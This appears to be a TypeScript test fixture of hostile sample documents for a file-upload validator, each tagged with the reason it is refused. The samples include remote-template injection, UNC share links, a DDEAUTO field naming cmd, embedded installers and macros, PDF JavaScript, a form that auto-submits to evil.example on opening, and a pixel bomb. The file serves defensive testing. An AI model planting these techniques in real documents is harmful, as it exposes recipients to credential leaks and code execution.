import type { FileProblem } from "../../../src/platform/files/content/bad-file-error";
import { buildPngChunk } from "../../../src/platform/files/content/png-chunks";
import type { FileKind } from "../../../src/platform/files/file-kinds";
import {
  BEGIN,
  code,
  END,
  FETCH,
  inSettings,
  OFFICE,
  relations,
  template,
  typesWith,
  WORD,
  withFields,
  withPart,
} from "./docx-samples";
import { doc, docx, pdf, png, readPackedObjects } from "./sample-files";

/** A picture whose header alone says that it is huge. */
function hugePng(): Buffer {
  const bytes = png();
  const header = Buffer.from(bytes.subarray(16, 29));
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  return Buffer.concat([bytes.subarray(0, 8), buildPngChunk("IHDR", header), bytes.subarray(33)]);
}

export interface HostileDocument {
  title: string;
  kind: FileKind;
  bytes: Buffer;
  problem: FileProblem;
}

/** Documents of a kind, by their titles, that are all refused for the same problem. */
const refused = (
  kind: FileKind,
  problem: FileProblem,
  documents: Record<string, Buffer>,
): HostileDocument[] =>
  Object.entries(documents).map(([title, bytes]) => ({ title, kind, bytes, problem }));

const SHEET = "application/vnd.ms-excel.sheet.macro&#69;nabled.12";
const OLE = "application/vnd.openxmlformats-officedocument.oleObject";
const COMPOUND = doc();

/** Files that would run, fetch or hide something, or cost whoever opens them too much. */
export const HOSTILE_DOCUMENTS: HostileDocument[] = [
  ...refused("docx", "outsideContent", {
    "a template whose address holds a bracket": inSettings(
      template("https://evil.example/a>b.dotm"),
    ),
    "a template whose mode is spelt with an entity": inSettings(
      template("https://evil.example/a.dotm", "&#69;xternal"),
    ),
    "a template named in UTF-16": inSettings(
      Buffer.from(
        `\ufeff${template("https://evil.example/a.dotm").replace('"1.0"', '"1.0" encoding="UTF-16"')}`,
        "utf16le",
      ),
    ),
    "a picture on another machine's share": docx({
      "word/_rels/document.xml.rels": relations(
        `Type="${OFFICE}/image" Target="file:///\\\\evil.example\\share\\a.png" TargetMode="External"`,
      ),
    }),
    "a field that asks another program": withFields(
      `${BEGIN}${code("DD")}${code("EAUTO c:\\\\cmd")}${END}`,
    ),
    "a field whose name follows a piece inside of what Word does not know": withFields(
      `${BEGIN}<x:y>${code("DATE ")}</x:y>${FETCH}${END}`,
    ),
    "a query of a database": docx({
      "word/settings.xml": `<w:settings xmlns:w="${WORD}"><w:mailMerge><w:query w:val="select"/></w:mailMerge></w:settings>`,
      "[Content_Types].xml": typesWith(
        "word/settings.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
      ),
    }),
    "a drawing that fetches a picture": withPart(
      "word/media/a.svg",
      "image/svg+xml",
      "image",
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>',
    ),
    "an old drawing that fetches a picture": docx({
      "word/document.xml": '<v:imagedata xmlns:v="v" src="\\\\evil.example\\a.png"/>',
    }),
  }),
  ...refused("docx", "unknownContent", {
    "a template beside an attribute that looks like a picture's": inSettings(
      template("https://evil.example/a.dotm").replace("Id=", `Note="x/relationships/image'" Id=`),
    ),
    "a field whose name follows a piece that Word does not know": withFields(
      `${BEGIN}<x:instrText>DATE </x:instrText>${FETCH}${END}`,
    ),
    "a field that begins in what Word falls back to": withFields(
      `${BEGIN}${code("DATE ")}<x:y>${END}${BEGIN}</x:y>${FETCH}${END}`,
    ),
    "a field whose name follows a deleted piece": withFields(
      `${BEGIN}<w:del>${code("DATE ")}</w:del>${FETCH}${END}`,
    ),
    "a field whose name follows an element within its code": withFields(
      `${BEGIN}<w:instrText>DATE<x:y/>${FETCH}</w:instrText>${END}`,
    ),
    "a simple field with two codes": withFields(
      '<w:fldSimple x:instr="DATE" w:instr="INCLUDEPICTURE https://evil.example/a"/>',
    ),
  }),
  ...refused("docx", "embeddedContent", {
    "an object under a picture's name": withPart(
      "word/media/image1.dat",
      OLE,
      "oleObject",
      COMPOUND,
    ),
    "an embedded installer": withPart(
      "word/embeddings/a.msi",
      "application/x-msi",
      "package",
      COMPOUND,
    ),
    "an installer under a picture's name and type": withPart(
      "word/embeddings/a.png",
      "image/png",
      "image",
      COMPOUND,
    ),
  }),
  ...refused("docx", "activeContent", {
    "an embedded workbook with macros": withPart("word/embeddings/a.xlsm", SHEET, "package", "PK"),
    "a document type with entities": docx({
      "word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    }),
  }),
  ...refused("pdf", "activeContent", {
    "a script among packed objects that do not say so": pdf(
      readPackedObjects("<< /S /JavaScript /JS (x) >>").replace("/Type /ObjStm ", ""),
    ),
    "a form that sends itself on opening": pdf(
      "5 0 obj\n<< /Type /Catalog /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> >>\nendobj\n",
    ),
    "a script inside a text that the table of objects leads to": pdf(
      "4 0 obj\n(harmless\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n)\nendobj\n",
    ),
  }),
  ...refused("png", "tooManyPixels", {
    "a picture of 900 million pixels": hugePng(),
  }),
  ...refused("pdf", "outsideContent", {
    "a link into a share": pdf(
      "4 0 obj\n<< /A << /S /URI /URI (file://evil.example/a) >> >>\nendobj\n",
    ),
    "a remote document to go to": pdf("4 0 obj\n<< /S /GoToR /F (a.pdf) >>\nendobj\n"),
  }),
  ...refused("pdf", "embeddedContent", {
    "an attachment": pdf("4 0 obj\n<< /Type /Filespec /EF << /F 5 0 R >> >>\nendobj\n"),
  }),
  ...refused("pdf", "damaged", {
    "an entry that stands twice": pdf("4 0 obj\n<< /S /JavaScript /S /URI >>\nendobj\n"),
  }),
  ...refused("pdf", "unknownContent", {
    "packed objects that are packed otherwise": pdf(
      readPackedObjects("<<>>").replace("/FlateDecode", "[/ASCIIHexDecode /FlateDecode]"),
    ),
  }),
  ...refused("doc", "embeddedContent", {
    "an object under a storage": doc(["\u0001Ole10Native"]),
  }),
];
